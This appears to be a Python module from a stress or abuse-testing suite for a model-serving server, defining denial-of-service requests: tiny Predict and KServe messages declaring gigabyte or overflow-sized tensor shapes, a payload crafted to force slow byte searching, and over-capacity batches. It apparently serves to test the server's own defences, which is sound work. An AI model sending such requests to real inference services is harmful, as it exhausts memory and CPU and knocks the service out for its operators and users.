"""Attacks with tensors: few bytes that decode to a gigabyte, and bytes that are slow to search."""

import json

import numpy as np
from abuse.attacks import wire
from abuse.attacks.attack_bodies import grpc_calls, http1_posts
from abuse.attacks.attacker import Counts, Target

from serving.client import predict_request
from serving.protos.kserve_pb2 import ModelInferRequest
from serving.protos.tensorflow_serving_pb2 import PredictRequest
from serving.tensors.signature import DataType

_ROWS = 349_525  # times 32 x 32 x 3 bytes: a gigabyte
_FLOAT_ROWS = 89_478_485  # times 3 x 4 bytes: a gigabyte


def _shaped(
    model: str, alias: str, dtype: DataType, shape: tuple[int, ...], values: tuple[int, ...]
) -> bytes:
    """Return a serialized Predict whose last value is repeated to fill the shape."""
    request = PredictRequest()
    request.model_spec.name = model
    tensor = request.inputs[alias]
    tensor.dtype = dtype.value
    for size in shape:
        tensor.tensor_shape.dim.add().size = size
    if dtype is DataType.DT_FLOAT:
        tensor.float_val.extend(values)
    else:
        tensor.int_val.extend(values)
    return request.SerializeToString()


def decoded_uint8(target: Target) -> Counts:
    """Send Predicts of some 50 bytes that decode to a gigabyte of pixels, 8 at a time."""
    message = _shaped("pictures", "images", DataType.DT_UINT8, (_ROWS, 32, 32, 3), (1,))
    return grpc_calls(target, wire.PREDICT, message, 8) | {"bytes of each": len(message)}


def decoded_many(target: Target) -> Counts:
    """Make 60 concurrent calls of some 36 bytes: the shape of a gigabyte, and no values."""
    message = _shaped("identity", "x", DataType.DT_FLOAT, (_FLOAT_ROWS, 3), ())
    return grpc_calls(target, wire.PREDICT, message, 60) | {"bytes of each": len(message)}


def decoded_kserve(target: Target) -> Counts:
    """Send huge shapes over KServe: typed contents with one value, raw contents without, JSON."""
    total: Counts = {}
    for rows in (_FLOAT_ROWS, 1 << 40, (1 << 62) + 1):
        typed = ModelInferRequest(model_name="identity")
        tensor = typed.inputs.add(name="x", datatype="FP32", shape=[rows, 3])
        raw = ModelInferRequest.FromString(typed.SerializeToString())
        raw.raw_input_contents.append(b"")
        tensor.contents.fp32_contents.append(1.0)
        entry = {"name": "x", "shape": [rows, 3], "datatype": "FP32"}
        step = Target(target.address, target.until - target.left() * 3 / 4, target.models_dir)
        outcomes = [
            grpc_calls(step, wire.INFER, typed.SerializeToString(), 20),
            http1_posts(
                target,
                "/v2/models/identity/infer",
                json.dumps({"inputs": [entry | {"data": [1.0]}]}).encode(),
                20,
            ),
            http1_posts(
                target,
                "/v2/models/identity/infer",
                json.dumps({"inputs": [entry | {"parameters": {"binary_data_size": 0}}]}).encode(),
                20,
            ),
        ]
        step = Target(target.address, target.until - target.left() / 2, target.models_dir)
        outcomes.append(grpc_calls(step, wire.INFER, raw.SerializeToString(), 20))
        for outcome in outcomes:
            for name, count in outcome.items():
                total[name] = total.get(name, 0) + count
    return total


def template_makers(target: Target) -> Counts:
    """Send two Predicts of 360 kB that make a template search its elements in equal bytes."""
    request = predict_request("identity", {"x": np.zeros((10_000, 3), np.float32)})
    # A search from the end of the message nearly matches the elements at each of 120,000 positions
    # after them.
    request.inputs["x"].tensor_content = b"ab" + b"a" * 119_998
    request.output_filter.append("a" * 240_000)
    body = wire.grpc_body(request.SerializeToString())
    connection = wire.Connection(target.address)
    try:
        fields = wire.grpc_fields(wire.PREDICT)
        streams = [connection.request(fields, body) for _ in range(2)]
        answered = connection.answers(streams, target.until)
    finally:
        connection.close()
    return {"calls": len(streams), "answered": answered}


def oversize(target: Target) -> Counts:
    """Send requests with one row more than a queue may hold, 20 at a time."""
    too_many = predict_request("identity", {"x": np.zeros((10_001, 3), np.float32)})
    return grpc_calls(target, wire.PREDICT, too_many.SerializeToString(), 20)


ATTACKS = {
    "decoded_uint8": decoded_uint8,
    "decoded_many": decoded_many,
    "decoded_kserve": decoded_kserve,
    "template_makers": template_makers,
    "oversize": oversize,
}
